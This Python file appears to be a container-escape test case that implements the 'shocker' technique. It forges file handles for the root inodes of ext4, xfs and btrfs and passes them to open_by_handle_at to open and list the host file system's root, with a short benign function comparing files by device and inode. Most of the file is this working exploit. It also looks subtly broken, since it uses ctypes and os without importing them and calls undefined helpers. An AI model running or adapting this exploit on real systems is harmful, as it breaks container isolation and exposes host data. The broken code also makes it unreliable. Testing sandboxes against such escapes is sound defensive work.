"""Open the host's root by the handle of its inode.

Technique: name_to_handle_at gives the handle of a file that is shown from the host; open_by_handle_at on the same file
    system takes any handle, also a made-up one: inode 2 is the root of an ext4, 128 of an xfs, 256 of a btrfs. So
    "shocker" left Docker in 2014.
Success: the file system's own root directory is open, with whatever lies in it.
Stopped by: seccomp, no_capabilities
"""
import struct


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def attack():
    shown, mount = Handle(size=128), (ctypes.c_int * 1)()
    answer(syscall, "name_to_handle_at", -100, b"/usr/bin", shown, mount, 0)
    directory = os.open("/usr", os.O_RDONLY)
    refusal = None
    for inode in (2, 128, 256):
        # Where the first call is answered it tells the kind of handle that this file system has.
        handle = Handle(size=8, type=shown.type or 1)
        ctypes.memmove(handle.bytes, struct.pack("<II", inode, 0), 8)
        try:
            root = syscall("open_by_handle_at", directory, handle, os.O_RDONLY)
            return f"inode {inode} is open: {os.listdir(root)[:5]}"
        except OSError as error:
            refusal = error
    raise refusal


def twin():
    """What handles are for, knowing a file again, honest programs do by device and inode."""
    open("file", "w").close()
    before = os.stat("file")
    os.rename("file", "moved")
    after = os.stat("moved")
    assert (before.st_dev, before.st_ino) == (after.st_dev, after.st_ino) and os.path.samestat(before, after)
